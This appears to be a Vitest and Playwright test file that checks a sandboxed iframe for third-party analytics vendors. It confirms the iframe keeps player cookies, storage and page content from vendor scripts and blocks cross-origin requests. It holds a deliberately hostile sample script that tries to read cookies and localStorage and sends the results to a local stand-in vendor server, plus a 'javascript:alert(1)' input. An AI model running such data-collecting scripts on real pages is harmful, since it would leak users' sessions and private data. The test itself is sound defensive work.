import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildServer, type Server } from '@sunflower/service-base/http/build-server.ts';
import { type Browser, chromium, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { platformConfig } from '../config.ts';
import { documentPolicy } from '../web-pages/document-policy.ts';
import { VENDOR_FRAME_PATH } from './vendor-frame.ts';
import { vendorFrameRoutes } from './vendor-frame-routes.ts';

/** A vendor script that tries everything it must not be able to do, and reports whatever it obtains. */
const CURIOUS_SCRIPT = `
  const attempts = [];
  const attempt = (name, get) => {
    try { attempts.push(name + '=' + get()); } catch { attempts.push(name + ' refused'); }
  };
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.getItem('player'));
  attempt('page', () => parent.document.body.textContent);
  attempt('eval', () => eval('1 + 1'));
  attempt('navigate', () => { top.location.href = '/stolen'; return 'asked'; });
  fetch(new URL('/elsewhere', 'http://other.localhost:' + new URL(document.currentScript.src).port)).then(
    () => attempts.push('other reached'), () => attempts.push('other refused'),
  ).then(() => fetch(new URL('/collect?' + encodeURIComponent(attempts.join(',')), here), { mode: 'no-cors' }));
  const here = document.currentScript.src;
  const push = dataLayer.push.bind(dataLayer);
  dataLayer.push = (command) => {
    fetch(new URL('/event?' + encodeURIComponent(JSON.stringify([...command])), here), { mode: 'no-cors' });
    return push(command);
  };
`;

const arrived: string[] = [];
let vendor: HttpServer;
let vendorOrigin = '';
let app: Server;
let appAddress = '';
let browser: Browser;
const keysFolder = mkdtempSync(join(tmpdir(), 'sunflower-keys-'));

beforeAll(async () => {
  vendor = createServer((request, response) => {
    const address = decodeURIComponent(request.url ?? '');
    if (address.startsWith('/tag.js')) {
      response.writeHead(200, { 'content-type': 'text/javascript' }).end(CURIOUS_SCRIPT);
      return;
    }
    arrived.push(address);
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => vendor.listen(0, '127.0.0.1', resolve));
  vendorOrigin = `http://vendor.localhost:${(vendor.address() as AddressInfo).port}`;
  const config = platformConfig({
    DATABASE_URL: 'postgres://localhost/none',
    SUNFLOWER_ENVIRONMENT: 'test',
    SUNFLOWER_KEYS_FOLDER: keysFolder,
    SUNFLOWER_WEB_ANALYTICS_ID: 'G-1',
    SUNFLOWER_WEB_ANALYTICS_SCRIPT: `${vendorOrigin}/tag.js`,
  });
  app = await buildServer({ name: 'test', logLevel: 'silent', isHttps: false });
  vendorFrameRoutes(app, config);
  app.get('/', async (_request, reply) =>
    reply
      .headers({ 'content-security-policy': documentPolicy(config, { scripts: [], styles: [] }) })
      .type('text/html')
      .send('<!doctype html><body>balance of the player</body>'),
  );
  await app.listen({ host: '127.0.0.1', port: 0 });
  appAddress = `http://localhost:${(app.server.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath: process.env.SUNFLOWER_CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-quic', '--disable-background-networking'],
  });
});

afterAll(async () => {
  await browser?.close();
  await app?.close();
  vendor?.close();
  rmSync(keysFolder, { recursive: true });
});

/**
 * Does in the page what the client does: opens the frame, passes it a port, sends it an event. Kept as text, because
 * this file is type-checked for Node.
 */
const GREET = `({ path, settings, event }) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = path;
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = ({ data }) => {
    port1.postMessage({ vendor: 'analytics', event, page: location.origin });
    resolve(data);
  };
  frame.onload = () => frame.contentWindow.postMessage({ type: 'VENDORS', vendors: [settings] }, '*', [port2]);
  document.body.append(frame);
})`;

async function greet(page: Page, script: string): Promise<string> {
  const given = {
    path: VENDOR_FRAME_PATH,
    settings: { vendor: 'analytics', id: 'G-1', script },
    event: { name: 'app_screen_viewed', data: { screen: '/tickets/$serial' } },
  };
  return page.evaluate(`(${GREET})(${JSON.stringify(given)})`);
}

async function playerPage(): Promise<Page> {
  const context = await browser.newContext();
  await context.addCookies([{ name: 'secret', value: 'session', url: appAddress }]);
  const page = await context.newPage();
  await page.goto(appAddress);
  await page.evaluate("localStorage.setItem('player', 'secret-of-storage')");
  return page;
}

const until = async (found: () => string | undefined): Promise<string> => {
  for (let tried = 0; tried < 100; tried++) {
    const text = found();
    if (text !== undefined) return text;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`nothing of the kind arrived among ${JSON.stringify(arrived)}`);
};

describe("the vendors' frame in Chromium", () => {
  it("runs a script that can't read player data or reach other origins", async () => {
    const page = await playerPage();
    expect(await greet(page, `${vendorOrigin}/tag.js`)).toBe('ready');
    const attempts = await until(() => arrived.find((address) => address.startsWith('/collect')));
    expect(attempts).toBe('/collect?cookie=,storage=null,page refused,eval refused,navigate refused,other refused');
    expect(page.url()).toBe(`${appAddress}/`);
    const event = await until(() => arrived.find((address) => address.startsWith('/event')));
    expect(JSON.parse(event.slice('/event?'.length))).toEqual([
      'event',
      'app_screen_viewed',
      { screen: '/tickets/$serial', page_location: `${appAddress}/tickets/$serial`, send_to: 'G-1' },
    ]);
    await page.context().close();
  });

  it.each([
    ['another origin', () => 'http://other.localhost:1/tag.js'],
    ['an invalid address', () => 'javascript:alert(1)'],
  ])('does not load a script from %s, and reports that the vendor failed', async (_, script) => {
    const page = await playerPage();
    expect(await greet(page, script())).toBe('failed');
    await page.context().close();
  });
});
